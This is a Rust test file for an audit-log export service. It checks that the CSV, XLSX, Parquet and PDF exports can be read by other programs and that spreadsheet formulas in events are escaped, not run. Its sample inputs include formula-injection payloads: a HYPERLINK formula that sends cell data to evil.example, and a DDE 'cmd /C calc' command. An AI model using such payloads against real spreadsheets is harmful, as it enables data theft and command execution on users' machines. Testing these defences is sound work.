//! Exported files in the hands of other people's programs: LibreOffice, DuckDB and Poppler see what was sent, and run
//! nothing that is in it.

use std::{fs, process::Command};

use serde_json::{Value, json};

use crate::support::{Api, Installation, LONG, Server, project_file, python, within};

/// What somebody who hopes for a spreadsheet sends.
const FORMULAS: [&str; 6] = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
];

fn world() -> (Installation, Server, Api) {
    let installation = Installation::new();
    let server = installation.start();
    let admin = server.admin();
    admin.tenant("acme");
    let events = FORMULAS.iter().enumerate().map(|(n, formula)| {
        json!({
            "id": format!("e{n}"), "tenant": "acme", "time": format!("2026-03-01T10:00:0{n}Z"), "action": formula,
            "actor": {"username": format!("ada{n}"), "first_name": "Ädä", "last_name": "O'Neil, \"the\" 2nd"},
            "details": format!("line one\nline two {formula}"), "parameters": {"Formula": formula, "Snowman": "☃ 雪"},
        })
    });
    admin.send(&Value::from_iter(events)).expect(201);
    admin.found("tenant=acme&application=!indelible", 6);
    (installation, server, admin)
}

/// Puts an export's file where other programs find it.
fn exported(installation: &Installation, admin: &Api, format: &str, columns: &Value) -> String {
    let wanted = json!({"format": format, "columns": columns, "query": "tenant=acme&application=!indelible"});
    let export = admin.write("POST", "/v1/exports", &wanted).expect(202).json();
    let path = format!("/v1/exports/{}", export["id"].as_str().unwrap());
    within(LONG, "the export", || (admin.read(&path)["state"] == "completed").then_some(()));
    let file = installation.path(&format!("events.{format}"));
    fs::write(&file, admin.get(&format!("{path}/download")).expect(200).body).unwrap();
    file.to_str().unwrap().to_owned()
}

fn check(expectations: &Value) {
    let mut child = Command::new(python())
        .arg(project_file("scripts/check-files.py"))
        .arg("-")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(&mut child.stdin.take().unwrap(), expectations.to_string().as_bytes()).unwrap();
    let output = child.wait_with_output().unwrap();
    let said = [output.stdout, output.stderr].map(|bytes| String::from_utf8_lossy(&bytes).into_owned());
    assert!(output.status.success(), "{}\n{}", said[0], said[1]);
}

#[test]
fn a_spreadsheet_shows_every_cell_and_runs_no_formula() {
    let (installation, _server, admin) = world();
    let columns = json!(["time", "action", "username", "last_name", "details"]);
    let headings = ["Timestamp", "Action Name", "Username", "Last name", "Details"];
    let rows = |is_csv: bool| {
        let cell = |text: &str| {
            // In a CSV an apostrophe makes a text of it; a workbook says of each cell what it is.
            if is_csv && text.starts_with(['=', '+', '-', '@', '\t']) {
                format!("'{text}")
            } else {
                text.to_owned()
            }
        };
        let row = |(n, formula): (usize, &&str)| {
            vec![
                format!("2026-03-01T10:00:0{n}.000000Z"),
                cell(formula),
                format!("ada{n}"),
                "O'Neil, \"the\" 2nd".to_owned(),
                format!("line one\nline two {formula}"),
            ]
        };
        let head = vec![headings.map(str::to_owned).to_vec()];
        head.into_iter().chain(FORMULAS.iter().enumerate().map(row)).collect::<Vec<_>>()
    };
    let csv = exported(&installation, &admin, "csv", &columns);
    let xlsx = exported(&installation, &admin, "xlsx", &columns);
    check(&json!([
        {"path": csv, "rows": rows(true), "row_count": 7},
        {"path": xlsx, "rows": rows(false), "row_count": 7},
    ]));
}

#[test]
fn duckdb_reads_the_columns_with_their_types() {
    let (installation, _server, admin) = world();
    let parquet = exported(&installation, &admin, "parquet", &json!("complete"));
    check(&json!([{
        "path": parquet,
        "row_count": 6,
        "columns": {"time": "TIMESTAMP WITH TIME ZONE", "actor": "VARCHAR", "event": "VARCHAR"},
        "query": "select count(*), min(action), max(json_extract_string(parameters, '$.Snowman')) from file \
                  where time >= '2026-03-01 10:00:02+00'",
        "result": [[4, "\t=1+1", "☃ 雪"]],
    }]));
}

#[test]
fn pages_to_print_hold_the_events_and_say_what_they_are() {
    let (installation, _server, admin) = world();
    let pdf = exported(&installation, &admin, "pdf", &json!("complete"));
    check(&json!([{"path": pdf, "text": ["Audit log", "tenant = acme", "ada5", "Page 1 of"]}]));
}
